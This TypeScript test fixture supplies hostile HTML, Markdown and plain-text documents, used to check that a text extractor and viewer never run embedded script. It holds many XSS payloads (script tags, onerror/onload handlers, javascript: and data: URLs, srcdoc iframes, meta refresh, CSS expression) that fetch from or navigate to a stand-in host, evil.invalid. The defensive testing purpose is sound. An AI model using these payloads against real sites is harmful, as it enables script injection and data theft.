// Hostile HTML and Markdown documents shared by the extractor unit test and the browser journey:
// each carries payloads that would run script if anything rendered them, next to visible text
// that must survive as plain text.

export interface HostileDocument {
  name: string;
  type: string;
  text: string;
  /** Visible sentences the extractor must keep and the viewer must show, as text. */
  visible: string[];
  /** Script-ish content that must never reach the extracted text (it sits inside skipped elements). */
  hidden: string[];
}

/** Where a payload would report success; the journey test fails if any of these is ever set. */
export const CANARY = "__pwned";
/** A host no request may reach; `.invalid` never resolves (RFC 2606). */
export const EVIL_ORIGIN = "http://evil.invalid";

/** Every way a payload tries to signal: set the canary, open a dialog, phone home, navigate. */
const RUN = `window.${CANARY}=1;top.${CANARY}=1;alert(1);fetch('${EVIL_ORIGIN}/x');location='${EVIL_ORIGIN}/nav'`;

const HTML_PAYLOADS = `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/refresh">
<base href="${EVIL_ORIGIN}/">
<title>HOSTILE_TITLE_SHOULD_NOT_BE_TEXT</title>
<style>body { background: url("${EVIL_ORIGIN}/css.png"); width: expression(${RUN}); } HOSTILE_STYLE_TEXT</style>
<script>${RUN}; document.write("HOSTILE_SCRIPT_TEXT")</script>
<link rel="stylesheet" href="${EVIL_ORIGIN}/style.css">
</head>
<body onload="${RUN}">
<h1 onclick="${RUN}">Harbour report</h1>
<p>The pilot boat leaves at dawn with the tide.</p>
<img src="x" onerror="${RUN}" alt="">
<img src="${EVIL_ORIGIN}/pixel.gif" alt="">
<p>Read the <a href="javascript:${RUN}">tide tables</a> before sailing.</p>
<svg onload="${RUN}"><script>${RUN}</script><foreignObject><iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>HOSTILE_SVG_TEXT</foreignObject></svg>
<iframe srcdoc="<script>${RUN}</script>" src="${EVIL_ORIGIN}/frame">HOSTILE_IFRAME_TEXT</iframe>
<object data="${EVIL_ORIGIN}/object.swf">HOSTILE_OBJECT_TEXT</object>
<embed src="${EVIL_ORIGIN}/embed.swf">
<p>Anchors hold best in <b>sandy</b> ground.</p>
<noscript>HOSTILE_NOSCRIPT_TEXT</noscript>
<template><script>${RUN}</script>HOSTILE_TEMPLATE_TEXT</template>
<form action="${EVIL_ORIGIN}/post"><button formaction="javascript:${RUN}">Send</button></form>
<a href="data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;">A data link to nowhere.</a>
<div style="background-image: url(javascript:${RUN})">Lanterns are lit at dusk.</div>
<p>Tags written as text stay text: &lt;script&gt;alert(2)&lt;/script&gt; and &lt;img src=x onerror=alert(3)&gt;.</p>
<math><mi xlink:href="javascript:${RUN}">HOSTILE_MATH_TEXT</mi></math>
<script type="module">import("${EVIL_ORIGIN}/mod.js")</script>
</body></html>
`;

const MARKDOWN_PAYLOADS = `# Tide log

The ferry crosses twice a day.

<script>${RUN}; document.write("HOSTILE_MD_SCRIPT_TEXT")</script>

<img src=x onerror="${RUN}">

Check [the chart](javascript:${RUN}) and [this one](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).

![a lighthouse](${EVIL_ORIGIN}/image.png "onerror=${RUN}")

<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject><text>HOSTILE_MD_SVG_TEXT</text></svg>

<iframe srcdoc="<script>${RUN}</script>">HOSTILE_MD_IFRAME_TEXT</iframe>

<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/md-refresh">

<style>* { background: url(${EVIL_ORIGIN}/md.css) } HOSTILE_MD_STYLE_TEXT</style>

## Weather

Fog rolls in from the west after noon.

Inline code stays code: \`<script>alert(4)</script>\` is shown as written.

<details open ontoggle="${RUN}"><summary>Storm notes</summary>Gales expected on Thursday.</details>
`;

/** A plain-text file full of markup: all of it is text, and must show as such. */
const TEXT_PAYLOADS = `Plain notes with markup in them.

<script>${RUN}</script> should be shown literally, tags and all.

<img src=x onerror="${RUN}"> is also just text here.

Before sailing, check [the tide chart](javascript:${RUN}) and ![the harbour map](x "onerror=${RUN}") too.
`;

export const HOSTILE_DOCUMENTS: HostileDocument[] = [
  {
    name: "hostile.html",
    type: "text/html",
    text: HTML_PAYLOADS,
    visible: [
      "Harbour report",
      "The pilot boat leaves at dawn with the tide.",
      "Read the tide tables before sailing.",
      "Anchors hold best in sandy ground.",
      "A data link to nowhere.",
      "Lanterns are lit at dusk.",
      "Tags written as text stay text: <script>alert(2)</script> and <img src=x onerror=alert(3)>.",
    ],
    hidden: [
      "HOSTILE_TITLE_SHOULD_NOT_BE_TEXT",
      "HOSTILE_STYLE_TEXT",
      "HOSTILE_SCRIPT_TEXT",
      "HOSTILE_SVG_TEXT",
      "HOSTILE_IFRAME_TEXT",
      "HOSTILE_OBJECT_TEXT",
      "HOSTILE_NOSCRIPT_TEXT",
      "HOSTILE_TEMPLATE_TEXT",
      "HOSTILE_MATH_TEXT",
      "expression(",
      CANARY,
    ],
  },
  {
    name: "hostile.md",
    type: "text/markdown",
    text: MARKDOWN_PAYLOADS,
    visible: [
      "Tide log",
      "The ferry crosses twice a day.",
      "Fog rolls in from the west after noon.",
      "Inline code stays code: <script>alert(4)</script> is shown as written.",
      "Gales expected on Thursday.",
      "Weather",
    ],
    hidden: ["HOSTILE_MD_SCRIPT_TEXT", "HOSTILE_MD_SVG_TEXT", "HOSTILE_MD_IFRAME_TEXT", "HOSTILE_MD_STYLE_TEXT", CANARY],
  },
  {
    name: "hostile.txt",
    type: "text/plain",
    text: TEXT_PAYLOADS,
    visible: ["Plain notes with markup in them.", `<script>${RUN}</script> should be shown literally, tags and all.`],
    hidden: [],
  },
];
